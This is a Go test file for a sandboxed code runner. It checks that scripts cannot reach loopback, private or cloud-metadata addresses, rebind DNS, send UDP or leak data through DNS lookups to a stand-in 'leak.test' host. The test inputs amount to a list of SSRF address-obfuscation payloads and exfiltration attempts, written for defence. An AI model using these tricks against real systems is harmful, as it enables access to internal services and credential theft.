//go:build linux

package hostile

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// fetchers read the URLs of their arguments, each on a connection of its own, and
// print which they reached.
var fetchers = map[string]string{
	"f.py": `
import sys, urllib.request
for u in sys.argv[1:]:
    try: print("reached", u, urllib.request.urlopen(u).read(100).decode())
    except Exception as e: print("refused", u)
`,
	"f.ts": `
for (const u of Deno.args) {
  try { console.log("reached", u, await (await fetch(u, { headers: { connection: "close" } })).text()) } catch (e) { console.log("refused", u) }
}
`,
	"f.sh": `
for u; do
  if (( turn++ % 2 )); then body=$(wget -qO- "$u"); else body=$(curl -sL "$u"); fi && echo "reached $u $body" || echo "refused $u"
done
`,
}

// others are ways besides HTTP, each to what the arguments name.
var others = map[string]string{
	"o.py": `
import socket, sys
for a in sys.argv[1:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b"out", (a, 80)); print("sent", a)
    except OSError as e: print("refused", a)
    try: print("found", socket.getaddrinfo("secret." + a.replace(".", "-") + ".leak.test", 80))
    except OSError as e: print("refused", a)
`,
	"o.ts": `
import dgram from "node:dgram";
import dns from "node:dns/promises";
let thrown; // node:dgram throws what Deno refuses where nobody can catch it
addEventListener("unhandledrejection", (e) => { e.preventDefault(); thrown(e) });
addEventListener("error", (e) => { e.preventDefault(); thrown(e) });
for (const a of Deno.args) {
  const s = dgram.createSocket("udp4");
  await new Promise((f, r) => { thrown = r; s.on("error", r).send("out", 80, a, (e) => e ? r(e) : f(0)) })
    .then(() => console.log("sent", a), () => console.log("refused", a));
  for (const look of [() => Deno.resolveDns("secret." + a.replaceAll(".", "-") + ".leak.test", "TXT"), () => dns.lookup("secret.leak.test"), () => fetch("http://secret.leak.test/")]) {
    try { await look(); console.log("found") } catch { console.log("refused") }
  }
}
Deno.exit(0);
`,
}

// network is a network of one machine, which has public and private addresses.
type network struct {
	hits   atomic.Int64 // of addresses that no program may reach
	mu     sync.Mutex
	asked  []string        // of the name server
	served map[string]bool // hosts of requests
}

const (
	publicAddress  = "93.184.216.34"
	privateAddress = "10.0.0.5"
)

// TestNetwork has programs reach for every spelling of addresses that are not
// outside, over a name whose answer changes, a redirect, and datagrams; and meet
// servers that never answer, trickle or flood.
//
// Rows 33, 34.
func TestNetwork(t *testing.T) {
	needsServer(t)
	if os.Geteuid() != 0 {
		t.Skip("a network of its own needs root")
	}
	dir := t.TempDir()
	for _, sources := range []map[string]string{fetchers, others} {
		for name, code := range sources {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(code), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), self, binary)
	cmd.Dir = dir
	cmd.Env = append(baseEnv(), roleVariable+"=network", "TMPDIR="+t.TempDir(), "CODE_RUNNER_CACHE_DIR="+suiteCache)
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWNET | unix.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
	out, err := cmd.CombinedOutput()
	if strings.Contains(string(out), "no network here") {
		t.Skip(string(out))
	}
	if err != nil || len(out) > 0 {
		t.Errorf("%v\n%s", err, out)
	}
}

// beNetwork is the role: it prints what goes wrong.
func beNetwork() error {
	n := &network{served: map[string]bool{}}
	if err := n.begin(); err != nil {
		fmt.Println("no network here:", err)
		return nil
	}
	var all sync.WaitGroup
	all.Go(func() { n.spellings(".sh") })
	for _, ending := range []string{".py", ".ts"} {
		all.Go(func() { n.spellings(ending) })
		all.Go(func() { n.slow(ending) })
		all.Go(func() { n.names(ending) })
	}
	all.Go(n.session)
	all.Wait()
	if hits := n.hits.Load(); hits != 0 {
		fmt.Printf("%d requests came to addresses that are not allowed\n", hits)
	}
	for _, name := range n.asked {
		if strings.Contains(name, "secret") {
			fmt.Printf("the name server was asked for %s\n", name)
		}
	}
	return nil
}

// begin makes addresses, a name server and servers.
func (n *network) begin() error {
	script := "ip link set lo up"
	for _, a := range []string{publicAddress, privateAddress, "169.254.169.254", "100.100.100.200", "192.168.7.7", "fd00:ec2::254", "2002:7f00:1::1"} {
		script += " && ip addr add " + a + " dev lo"
	}
	if out, err := exec.Command("sh", "-c", script).CombinedOutput(); err != nil {
		return fmt.Errorf("%w: %s", err, out)
	}
	conf := filepath.Join(os.TempDir(), "resolv.conf")
	if err := os.WriteFile(conf, []byte("nameserver 127.0.0.1\n"), 0o644); err != nil {
		return err
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return err
	}
	if err := unix.Mount(conf, "/etc/resolv.conf", "", unix.MS_BIND, ""); err != nil {
		return err
	}
	p, err := net.ListenPacket("udp", "127.0.0.1:53")
	if err != nil {
		return err
	}
	go n.serveNames(p)
	l, err := net.Listen("tcp", ":80")
	if err != nil {
		return err
	}
	go func() { _ = http.Serve(l, http.HandlerFunc(n.serve)) }()
	return nil
}

func (n *network) serve(w http.ResponseWriter, req *http.Request) {
	at := req.Context().Value(http.LocalAddrContextKey).(net.Addr).String()
	if !strings.HasPrefix(at, publicAddress) && !strings.Contains(at, "ffff:"+publicAddress) {
		n.hits.Add(1)
	}
	n.mu.Lock()
	n.served[req.Host+"."] = true
	n.mu.Unlock()
	flush := http.NewResponseController(w).Flush
	switch req.URL.Path {
	case "/away":
		http.Redirect(w, req, "http://"+privateAddress+"/", http.StatusFound)
	case "/never":
		<-req.Context().Done()
	case "/trickle":
		for req.Context().Err() == nil {
			_, _ = w.Write([]byte("x"))
			_ = flush()
			time.Sleep(50 * time.Millisecond)
		}
	case "/flood":
		b := make([]byte, 1<<20)
		for req.Context().Err() == nil {
			if _, err := w.Write(b); err != nil {
				return
			}
		}
	default:
		_, _ = io.WriteString(w, "fine")
	}
}

// serveNames answers: good.test is public, inside.test private, and a name of
// rebind.test, one for each program, the loopback once it was reached: a program may
// ask several times for one connection.
func (n *network) serveNames(c net.PacketConn) {
	b := make([]byte, 1500)
	for {
		k, from, err := c.ReadFrom(b)
		if err != nil {
			return
		}
		var m dnsmessage.Message
		if m.Unpack(b[:k]) != nil || len(m.Questions) != 1 {
			continue
		}
		q := m.Questions[0]
		n.mu.Lock()
		n.asked = append(n.asked, q.Name.String())
		answer := map[string]string{"good.test.": publicAddress, "inside.test.": privateAddress}[q.Name.String()]
		if name := q.Name.String(); strings.HasSuffix(name, ".rebind.test.") && q.Type == dnsmessage.TypeA {
			if answer = publicAddress; n.served[name] {
				answer = "127.0.0.1"
			}
		}
		n.mu.Unlock()
		m = dnsmessage.Message{Header: dnsmessage.Header{ID: m.ID, Response: true, RecursionAvailable: true}, Questions: m.Questions}
		switch {
		case answer == "":
			m.RCode = dnsmessage.RCodeNameError
		case q.Type == dnsmessage.TypeA:
			m.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: q.Name, Type: q.Type, Class: q.Class},
				Body: &dnsmessage.AResource{A: [4]byte(net.ParseIP(answer).To4())}}}
		}
		if packed, err := m.Pack(); err == nil {
			_, _ = c.WriteTo(packed, from)
		}
	}
}

// run runs a program and returns its outcome.
func (n *network) run(policy, timeout string, args ...string) (o struct {
	Status  string
	Stdout  string
	Error   struct{ Message string }
	Session struct{ Origin string }
	Usage   struct {
		Contacted []struct{ Host, Refused, Flag string }
	}
}) {
	cmd := exec.Command(os.Args[1], append([]string{"run", "--json", "--timeout", timeout, "--memory", "128MiB"}, args...)...)
	cmd.Env = append(slices.DeleteFunc(os.Environ(), func(e string) bool { return strings.HasPrefix(e, roleVariable) }), "DENO_PERMISSION_ARGS="+policy, "CODE_RUNNER_SESSION_DIR="+filepath.Join(os.TempDir(), "sessions"))
	out, err := cmd.Output()
	if jerr := json.Unmarshal(out, &o); jerr != nil {
		fmt.Printf("%s %v: %v, %v: %.300q\n", policy, args, err, jerr, out)
	}
	return o
}

// spellings tries what is not outside under --allow-net.
func (n *network) spellings(ending string) {
	hosts := []string{
		"127.0.0.1", "localhost", "localhost.", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0177.0.0.1", "[::1]", "[::]", "[::ffff:127.0.0.1]",
		"[::ffff:7f00:1]", "[0:0:0:0:0:ffff:0a00:5]", privateAddress, "167772165", "169.254.169.254", "[::ffff:169.254.169.254]", "100.100.100.200",
		"192.168.7.7", "[fd00:ec2::254]", "[2002:7f00:1::1]", "[64:ff9b::7f00:1]", "inside.test",
	}
	args := []string{"f" + ending, "http://good.test/", "http://" + publicAddress + "/", "http://good.test/away"}
	for _, h := range hosts {
		args = append(args, "http://"+h+"/")
	}
	o := n.run("--allow-net", "60s", args...)
	if strings.Count(o.Stdout, "reached") != 2 || strings.Count(o.Stdout, "refused") != len(hosts)+1 {
		fmt.Printf("%s: %s %s: %s\n", ending, o.Status, o.Error.Message, o.Stdout)
	}
	if !slices.ContainsFunc(o.Usage.Contacted, func(c struct{ Host, Refused, Flag string }) bool {
		return c.Host == "inside.test" && c.Flag == "--allow-net="+privateAddress+":80"
	}) {
		fmt.Printf("%s: contacted %+v\n", ending, o.Usage.Contacted)
	}
}

// names tries a name that changes its answer, and ways out under a list.
func (n *network) names(ending string) {
	name := ending[1:] + ".rebind.test"
	url := "http://" + name + "/"
	o := n.run("--allow-net="+name, "60s", "f"+ending, url, url, url, "http://other.test/")
	if !strings.Contains(o.Stdout, "reached "+url+" fine") || strings.Count(o.Stdout, "refused") != 3 {
		fmt.Printf("%s: %s %s: %s\n", ending, o.Status, o.Error.Message, o.Stdout)
	}
	o = n.run("--allow-net=good.test", "60s", "o"+ending, publicAddress, privateAddress)
	if strings.Count(o.Stdout, "refused") < 4 || strings.Contains(o.Stdout, "sent") || strings.Contains(o.Stdout, "found") {
		fmt.Printf("%s: %s %s: %s\n", ending, o.Status, o.Error.Message, o.Stdout)
	}
}

// session has a program of a session run again, for its process is gone.
func (n *network) session() {
	for _, origin := range []string{"fresh", "replayed"} {
		o := n.run("--allow-net=good.test", "60s", "--session", "again", "f.ts", "http://good.test/")
		if o.Session.Origin != origin || !strings.Contains(o.Stdout, "reached") {
			fmt.Printf("session: %s %s, %s: %s\n", o.Status, o.Error.Message, o.Session.Origin, o.Stdout)
		}
	}
}

// slow reads from servers that do not end.
func (n *network) slow(ending string) {
	for _, how := range []string{"never", "trickle", "flood"} {
		code := map[string]string{
			".py": "import urllib.request\nprint(len(urllib.request.urlopen('http://good.test/" + how + "').read()))",
			".ts": "console.log((await (await fetch('http://good.test/" + how + "')).arrayBuffer()).byteLength)",
		}[ending]
		name := how + ending
		if err := os.WriteFile(name, []byte(code), 0o600); err != nil {
			fmt.Println(err)
		}
		begun := time.Now()
		o := n.run("--allow-net=good.test", "3s", name)
		if o.Status != "timed_out" && (how != "flood" || o.Status != "out_of_memory" && o.Status != "failed") || time.Since(begun) > 30*time.Second {
			fmt.Printf("%s: %s after %v: %s\n", name, o.Status, time.Since(begun), o.Stdout)
		}
	}
}
